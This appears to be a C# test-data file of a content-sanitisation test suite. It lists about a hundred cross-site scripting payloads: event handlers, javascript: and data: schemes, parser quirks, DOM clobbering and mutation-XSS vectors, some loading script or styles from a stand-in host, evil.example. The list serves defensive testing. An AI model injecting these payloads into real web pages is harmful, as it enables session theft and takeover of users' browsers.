namespace Lectern.Tests.Storage.Content;

/// <summary>Ways in which markup has run script: event handlers, schemes, encodings, parser quirks, mutation, clobbering.</summary>
public static class XssVectors
{
    public static TheoryData<string> All => [.. Handlers, .. Schemes, .. Containers, .. Quirks, .. Mutations];

    private static readonly string[] Handlers =
    [
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror =alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img\nsrc=x\nonerror\n=\nalert(1)>",
        "<img\u000csrc=x\u000conerror=alert(1)>",
        "<body onload=alert(1)>",
        "<video src=1 onloadstart=alert(1)>",
        "<audio src=/a.mp3 onplay=alert(1) autoplay></audio>",
        "<details open ontoggle=alert(1)>x</details>",
        "<p onpointerover=alert(1)>x</p>",
        "<div style=animation-name:x onanimationstart=alert(1)>x</div>",
        "<a href=# onclick=alert(1)>x</a>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<xss onfocus=alert(1) tabindex=1 id=x>x</xss>",
        "<p\"onmouseover=\"alert(1)\">x</p>",
        "<img alt=\"`onerror=alert(1)\" src=`x`>",
        "<math><mi onclick=alert(1)>x</mi></math>",
    ];

    private static readonly string[] Schemes =
    [
        "<a href=javascript:alert(1)>x</a>",
        "<a href=JaVaScRiPt:alert(1)>x</a>",
        "<a href=' javascript:alert(1)'>x</a>",
        "<a href='java\tscript:alert(1)'>x</a>",
        "<a href='java\nscript:alert(1)'>x</a>",
        "<a href='&#1;javascript:alert(1)'>x</a>",
        "<a href='&#x6A;&#x61;vascript&colon;alert(1)'>x</a>",
        "<a href='java&Tab;script&colon;alert(1)'>x</a>",
        "<a href='java\u00ADscript:alert(1)'>x</a>",
        "<a href='javascript\u200B:alert(1)'>x</a>",
        "<a href=vbscript:msgbox(1)>x</a>",
        "<a href=data:text/html,<script>alert(1)</script>>x</a>",
        "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
        "<img src=data:image/svg+xml,<svg onload=alert(1)>>",
        "<a href=blob:https://x/y>x</a>",
        "<a href=file:///etc/passwd>x</a>",
        "<a href=view-source:javascript:alert(1)>x</a>",
        "<a href=feed:javascript:alert(1)>x</a>",
        "<a href=//evil.example/x>x</a>",
        "<a href='\\\\evil.example'>x</a>",
        "<a href='/\\evil.example'>x</a>",
        "<img src=//evil.example/x>",
        "<a href='\u0000javascript:alert(1)'>x</a>",
        "<math href=javascript:alert(1)>x</math>",
        "<math><mrow xlink:href=javascript:alert(1)><mi>x</mi></mrow></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<blockquote cite=javascript:alert(1)>x</blockquote>",
        "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
        "<video poster=javascript:alert(1) src=/x.mp4></video>",
        "<a href=x ping=https://evil.example>x</a>",
        "<img src=x srcset='javascript:alert(1) 1x'>",
    ];

    private static readonly string[] Containers =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script >",
        "<<script>alert(1);//<</script>",
        "<style>*{background:url(javascript:alert(1))}</style>",
        "<style>@import '//evil.example/x.css';</style>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<isindex action=javascript:alert(1) type=submit>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
        "<svg><use href=data:image/svg+xml,x#y /></svg>",
        "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
        "<template><script>alert(1)</script></template>",
        "<div><template shadowrootmode=open><script>alert(1)</script></template></div>",
        "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
        "<?xml-stylesheet href='javascript:alert(1)'?>",
    ];

    private static readonly string[] Quirks =
    [
        "<!--><script>alert(1)</script>-->",
        "<!--<img src='--><img src=x onerror=alert(1)//'>",
        "<!-- --!><img src=x onerror=alert(1)>",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<comment><img src='</comment><img src=x onerror=alert(1)//'>",
        "<title><img src='</title><img src=x onerror=alert(1)//'>",
        "<textarea><img src='</textarea><img src=x onerror=alert(1)//'>",
        "<xmp><img src='</xmp><img src=x onerror=alert(1)//'>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
        "<p title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\u003cimg src=x onerror=alert(1)\u003e",
        "</p></main></body></html><script>alert(1)</script>",
        "</div></div></main><h1 id=title>x</h1>",
        "<p id=location name=cookie>x</p><a id=config><a id=config name=url href=x>x</a>",
        "<img name=getElementById src=x><p id='__proto__'>x</p>",
    ];

    private static readonly string[] Mutations =
    [
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
        "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
        "<math><mi><style><!--</style><img src=x onerror=alert(1)>--></style></mi></math>",
        "<svg><desc><table><svg><style><!--</style><img src=x onerror=alert(1)>",
        "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
        "<select><math><mtext><option><style></math><img src=x onerror=alert(1)></style>",
        "<a><table><a href=javascript:alert(1)>x</table>",
        "<table><tr><td></td></tr><caption><svg><style><a title='</style><img src=x onerror=alert(1)>'></table>",
        "<p><button><p><button><p onclick=alert(1)>x",
        "<nobr><nobr><table><nobr><style></nobr><img src=x onerror=alert(1)></style>",
        "<math><ms><mglyph></ms><script>alert(1)</script></math>",
        "<dl><dd><dl></dd><dt><p><dl><style></dl><img src=x onerror=alert(1)></style>",
    ];
}
